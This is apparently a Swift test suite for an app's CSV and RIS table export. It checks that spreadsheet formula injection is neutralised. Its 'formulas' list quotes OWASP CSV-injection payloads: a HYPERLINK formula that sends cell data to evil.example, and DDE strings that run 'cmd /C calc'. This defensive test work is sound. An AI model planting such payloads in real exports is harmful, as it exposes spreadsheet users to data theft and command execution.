import AnnalsModel
import AnnalsStore
import AnnalsTestSupport
import Foundation
import Testing

@testable import AnnalsInterchange

@Suite(.serialized) struct TableExportTests {
    let folder = TemporaryFolder()

    func samples() throws -> RegistryStore {
        let store = try folder.newRegistry()
        let file = try RegistryImporter.read(file: Fixtures.sampleRegistry)
        _ = try store.write { try RegistryImporter.apply([file], to: $0) }
        _ = try store.write { tx in
            var importer = try PublicationImporter(registry: tx)
            try importer.importPubMed(
                file: Fixtures.samples.appendingPathComponent("pubmed-sample.xml"), displayName: "pubmed-sample.xml")
            return importer.report
        }
        return store
    }

    func csv(_ table: TableExport.Table, excel: Bool = false, _ store: RegistryStore) throws -> String {
        var out = ""
        try store.read { try TableExport.csv(table, from: $0, excel: excel) { out += $0 } }
        return out
    }

    @Test(arguments: TableExport.Table.allCases)
    func everyTableHasItsHeaderAndOneRowPerRecord(_ table: TableExport.Table) throws {
        let store = try samples()
        let text = try csv(table, store)
        let lines = text.components(separatedBy: "\r\n").filter { !$0.isEmpty }
        #expect(lines.first == table.columns.joined(separator: ","))
        let counts = try store.read { try $0.counts() }
        let expected: Int =
            switch table {
            case .publications: counts[.publication]!
            case .projects: counts[.project]!
            case .patents: counts[.patent]!
            case .awards: counts[.award]!
            case .tallies: counts[.tally]!
            case .people: counts[.person]!
            }
        // Quoted fields never hold a line break in the samples, so lines are records.
        #expect(lines.count == expected + 1)
    }

    @Test func excelGetsAByteOrderMarkAndChineseSurvives() throws {
        let text = try csv(.people, excel: true, try samples())
        #expect(text.unicodeScalars.first == "\u{FEFF}")
        #expect(text.contains("gao-zhigang,Gao,Zhigang,高志刚,"))
    }

    /// Text that a spreadsheet would run as a formula (OWASP's CSV injection examples), or trim into one.
    static let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1", "-A1",
    ]

    /// Every cell of `csv`, header left out.
    func cells(_ csv: String) -> [String] {
        let (records, problems) = CSV.read(csv.hasPrefix("\u{FEFF}") ? String(csv.dropFirst()) : csv)
        #expect(problems.isEmpty)
        return records.dropFirst().flatMap { $0.fields.map(\.text) }
    }

    @Test(arguments: TableExport.Table.allCases)
    func noCellOfAnyTableStartsAFormula(_ table: TableExport.Table) throws {
        let store = try samples()
        let formulas = Self.formulas
        try store.write { tx in
            for (i, formula) in formulas.enumerated() {
                let id = "formula-\(i)"
                var person = try #require(try tx.people().first)
                (person.id, person.familyName, person.givenName, person.academicTitle) = (id, formula, formula, formula)
                try tx.upsert(person)
                var project = try #require(try tx.projects().first)
                (project.id, project.title, project.funder, project.programme, project.grantNumber) = (
                    id, formula, formula, formula, formula
                )
                try tx.upsert(project)
                var patent = try #require(try tx.patents().first)
                (patent.id, patent.title, patent.applicationNumber) = (id, formula, formula)
                try tx.upsert(patent)
                var award = try #require(try tx.awards().first)
                (award.id, award.name, award.grade) = (id, formula, formula)
                try tx.upsert(award)
                var publication: Publication?
                try tx.forEachPublication { if publication == nil { publication = $0 } }
                var paper = try #require(publication)
                (paper.id, paper.title, paper.pmid, paper.doi, paper.pmcid, paper.volume, paper.issue, paper.pages) =
                    (id, MarkupText(plain: formula), nil, nil, nil, formula, formula, formula)
                paper.journal?.title = formula
                try tx.upsert(paper)
            }
            // Tallies: one per formula in a year of its own, so none overlaps another.
            var tally: CaseTally?
            try tx.forEachTally { if tally == nil { tally = $0 } }
            for (i, formula) in formulas.enumerated() {
                var t = try #require(tally)
                (t.id, t.source, t.note) = ("formula-\(i)", formula, formula)
                (t.from, t.to) = (PartialDate(year: 1900 + i), try #require(PartialDate(year: 1900 + i)))
                try tx.upsert(t)
            }
        }
        for excel in [false, true] {
            let text = try csv(table, excel: excel, store)
            let written = cells(text)
            for cell in written {
                let first = cell.unicodeScalars.first { $0 != " " }
                if let first, "=+-@\t\r\n".unicodeScalars.contains(first) {
                    #expect(
                        SpreadsheetCell.isPlainNumber(cell.unicodeScalars[...]), "\(table): \(cell.debugDescription)")
                }
            }
            // Each formula is there, as text behind a quote, and nothing else was changed.
            for formula in formulas {
                // A title is written in its plain form, white space collapsed.
                let expected = table == .publications ? MarkupText(plain: formula).plain : formula
                #expect(written.contains("'" + expected), "\(table): \(formula.debugDescription)")
            }
        }
        // The registry keeps the text as it was.
        let people = try store.read { try $0.people() }
        #expect(people.first { $0.id == "formula-0" }?.familyName == formulas[0])
    }

    @Test func plainNumbersStayNumbersAndOnlyFormulasAreQuoted() throws {
        for number in ["-0.5", "+3", "-12.5%", "-1e-3", "42", "-.5", "2024-01-01"] {
            #expect(SpreadsheetCell.neutralised(number) == number)
        }
        for text in ["-", "-A1", "-1+1", "--1", "+", "=1", "@x", "\t1", "\r1", "\n=1", "  =1", "-1e", "-1%%"] {
            #expect(SpreadsheetCell.neutralised(text) == "'" + text, "\(text.debugDescription)")
        }
        #expect(CSVWriter.line(["=1+1", "-5", "a"]) == "'=1+1,-5,a\r\n")
        #expect(
            PublicationListing.csv([
                PublicationRow(
                    id: "x", title: "=HYPERLINK(\"http://e.example\")", year: 2024, type: "journal-article",
                    authors: [.init(family: "@Evil", affiliations: [])], departments: [], retracted: false)
            ]).contains(",\"'=HYPERLINK(\"\"http://e.example\"\")\","))
    }

    @Test func fieldsWithCommasAndQuotesAreQuoted() throws {
        #expect(CSVWriter.line(["a,b", "say \"hi\"", "plain"]) == "\"a,b\",\"say \"\"hi\"\"\",plain\r\n")
    }

    @Test func risRecordsReadBackField() throws {
        let store = try samples()
        var ris = ""
        try store.read { try TableExport.ris(from: $0, year: 2024, department: "oncology-surgery") { ris += $0 } }
        let records = ris.components(separatedBy: "ER  - ").filter { $0.contains("TY  - ") }
        #expect(!records.isEmpty)
        let fields = try #require(records.first { $0.contains("AN  - 900001002") })
            .components(separatedBy: "\r\n").compactMap { line -> (String, String)? in
                guard line.count >= 6, line.dropFirst(2).hasPrefix("  - ") else { return nil }
                return (String(line.prefix(2)), String(line.dropFirst(6)))
            }
        func all(_ tag: String) -> [String] { fields.filter { $0.0 == tag }.map(\.1) }
        #expect(all("TY") == ["JOUR"])
        #expect(all("AU") == ["Wang, Jinhu", "Xiong, Qixing", "Li, M"])
        #expect(all("TI") == ["Illustrative record: digital navigation for resection of MYCN-amplified neuroblastoma."])
        #expect(all("T2") == ["Cancer letters"])
        #expect(all("PY") == ["2024"])
        #expect(all("DA") == ["2024/03/15"])
        #expect(all("VL") == ["580"])
        #expect(all("SN") == ["0304-3835"])
        #expect(all("DO") == ["10.5555/annals.sample.2"])
        #expect(all("LA") == ["eng"])
    }
}
